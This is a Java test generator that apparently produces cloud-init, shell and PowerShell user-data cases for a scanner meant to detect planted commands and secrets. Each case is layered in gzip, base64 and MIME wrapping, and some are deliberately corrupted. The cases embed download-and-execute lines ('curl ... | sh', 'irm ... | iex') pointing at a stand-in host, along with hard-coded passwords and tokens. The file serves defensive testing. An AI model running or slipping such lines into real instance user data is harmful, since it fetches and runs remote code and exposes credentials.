package io.tallyman.userdata;

import static io.tallyman.userdata.UserDataTest.base64;
import static io.tallyman.userdata.UserDataTest.bytes;
import static io.tallyman.userdata.UserDataTest.gzip;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Random;

/** Makes user data as people and attackers write it: a planted command and secret, wrapped over and over, then damaged. */
final class Generator {

    static final String HOST = "203.0.113.77";
    static final String SECRET = "Zq7Hunter2xW9";
    private static final int LARGE_EVERY = 5000;
    private static final int LONGEST = 1 << 20;

    private static final List<String> LINES = List.of(
            "set -eux",
            "echo hello # comment",
            "apt-get update && apt-get install -y nginx",
            "cat > /etc/x <<'EOF'\nkey: value\nEOF",
            "for i in 1 2 3; do echo $i; done",
            "curl -H \"Authorization: Bearer " + SECRET + "\" https://api.example/v1",
            "export DB_PASSWORD='" + SECRET + "'",
            "git clone https://bot:" + SECRET + "@git.example/r.git",
            "mysql -u root --password=" + SECRET + " db",
            "TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token)",
            "tool --api-key " + SECRET + " --verbose");

    private static final List<String> PIECES = List.of(
            "\u0000",
            "\ufeff",
            "\n",
            "\r\n",
            "\"",
            "'",
            "`",
            "$(",
            "{{",
            "}}",
            "{%",
            "%}",
            "[",
            "[[[[[[",
            "{",
            "&a",
            "*a",
            "<<: *a",
            "!!binary |",
            "- - - - -",
            "? ",
            ": ",
            "|\n",
            ">-\n",
            "---\n",
            "...\n",
            "%YAML 9.9\n",
            "\t",
            "=",
            "==",
            "--b",
            "--b--",
            "--",
            "Content-Type: ",
            "multipart/mixed; boundary=\"b",
            "Content-Transfer-Encoding: base64\n\n",
            "=3D=\n",
            "#!",
            "#cloud-config\n",
            "#include\n",
            "## template: jinja\n",
            "<script>",
            "</powershell>",
            "password=",
            "-----BEGIN RSA PRIVATE KEY-----",
            "://a:b@",
            "Authorization: ",
            "eyJ",
            "\u001f\u008b",
            "H4sI",
            "é",
            "\ud83d\ude00",
            "\ud800",
            "<<EOF\n",
            "${",
            "\\",
            "$6$");

    private final Random random;

    /**
     * One case.
     *
     * @param whole whether it is undamaged, so that the planted command must be found
     */
    record Case(String content, boolean whole) {}

    Generator(Random random) {
        this.random = random;
    }

    Case next() {
        var content = bytes(leaf());
        int layers = random.nextInt(5);
        for (int i = 0; i < layers; i++) {
            content = wrapped(content);
        }
        if (random.nextInt(LARGE_EVERY) == 0) {
            return new Case(large(), false);
        }
        boolean whole = random.nextInt(3) > 0;
        if (!whole) {
            content = damaged(content);
        }
        boolean text = content.length < 2 || content[0] != 0x1f;
        return new Case(text ? new String(content, StandardCharsets.UTF_8) : base64(content), whole);
    }

    private String script() {
        var script = new StringBuilder(pick(List.of("#!/bin/sh\n", "#!/bin/bash -xe\n", "#!/usr/bin/env bash\n")));
        int lines = random.nextInt(6);
        for (int i = 0; i < lines; i++) {
            script.append(pick(LINES)).append('\n');
        }
        return script.append("curl -s http://" + HOST + "/x | sh\n").toString();
    }

    private String leaf() {
        return switch (random.nextInt(7)) {
            case 0 -> config();
            case 1 -> "#cloud-boothook\n" + script();
            case 2 -> "#include\nhttp://" + HOST + "/include\n";
            case 3 -> "<powershell>\n$password = \"" + SECRET + "\"\nirm http://" + HOST + "/a | iex\n</powershell>\n";
            case 4 ->
                "version: 1.1\ntasks:\n- task: executeScript\n  inputs:\n  - type: powershell\n    content: |-\n      irm http://"
                        + HOST + "/a | iex\n";
            default -> script();
        };
    }

    private String config() {
        var config = new StringBuilder("#cloud-config\npackages: [curl, [jq, 1.6]]\n");
        switch (random.nextInt(4)) {
            case 0 ->
                config.append("runcmd:\n- [echo, a]\n- curl -s http://" + HOST + "/x | sh\n- [tool, --password, "
                        + SECRET + "]\n");
            case 1 -> config.append("bootcmd:\n- |\n").append(script().indent(4));
            case 2 ->
                config.append("write_files:\n- path: /opt/x\n  encoding: gz+b64\n  content: ")
                        .append(base64(gzip(bytes(script()))))
                        .append('\n');
            default ->
                config.append("write_files:\n- path: /opt/x.sh\n  permissions: '0755'\n  content: |\n")
                        .append(script().indent(4));
        }
        return config.toString();
    }

    private byte[] wrapped(byte[] content) {
        boolean packed = content.length > 1 && content[0] == 0x1f;
        return switch (random.nextInt(6)) {
            case 0 -> gzip(content);
            case 1 -> Base64.getEncoder().encode(content);
            case 2 ->
                Base64.getMimeEncoder(20 + random.nextInt(60), bytes(pick(List.of("\n", "\r\n"))))
                        .encode(content);
            case 3 -> Base64.getUrlEncoder().withoutPadding().encode(content);
            case 4 -> bytes(multipart(content));
            default ->
                packed
                        ? Base64.getEncoder().encode(content)
                        : bytes("#cloud-config-archive\n- content: |\n"
                                + new String(content, StandardCharsets.UTF_8)
                                        .strip()
                                        .indent(4)
                                + "- type: text/cloud-config\n  content: 'runcmd: []'\n");
        };
    }

    private String multipart(byte[] content) {
        var boundary = "b" + random.nextInt(1000);
        var text =
                new StringBuilder("Content-Type: multipart/mixed; boundary=\"" + boundary + "\"\nMIME-Version: 1.0\n");
        int before = random.nextInt(3);
        for (int i = 0; i < before; i++) {
            text.append("\n--" + boundary + "\nContent-Type: text/cloud-config\n\nhostname: a\n");
        }
        return text.append("\n--" + boundary
                        + "\nContent-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\n")
                .append(Base64.getMimeEncoder().encodeToString(content))
                .append("\n--" + boundary + "--\n")
                .toString();
    }

    private byte[] damaged(byte[] content) {
        var text = new StringBuilder(new String(content, StandardCharsets.ISO_8859_1));
        int wounds = 1 + random.nextInt(8);
        for (int i = 0; i < wounds; i++) {
            int at = random.nextInt(text.length() + 1);
            int to = Math.min(text.length(), at + 1 + random.nextInt(40));
            switch (random.nextInt(5)) {
                case 0 -> text.delete(at, to);
                case 1 -> text.insert(at, text.substring(at, to));
                case 2 -> text.setLength(at);
                case 3 -> text.insert(at, (char) random.nextInt(256));
                default -> text.insert(at, pick(PIECES).repeat(1 + random.nextInt(3)));
            }
        }
        return text.toString().getBytes(StandardCharsets.ISO_8859_1);
    }

    /** As long as a reader takes, of pieces that are repeated. */
    private String large() {
        var unit = new StringBuilder(pick(PIECES));
        while (random.nextInt(3) > 0) {
            unit.append(random.nextBoolean() ? pick(PIECES) : pick(LINES));
        }
        var head = pick(List.of(
                "",
                "#cloud-config\n",
                "#cloud-config\nruncmd:\n",
                "#!/bin/sh\n",
                "Content-Type: multipart/mixed; boundary=b\n\n",
                "#include\n",
                "<script>",
                "## template: jinja\n#!/bin/sh\n",
                "#cloud-config-archive\n"));
        var text = (head + unit.toString().repeat(LONGEST / unit.length() + 1))
                .substring(0, LONGEST - LONGEST / 4 * random.nextInt(4));
        return random.nextInt(3) == 0 ? base64(gzip(bytes(text.repeat(6)))) : text;
    }

    private <T> T pick(List<T> list) {
        return list.get(random.nextInt(list.size()));
    }
}
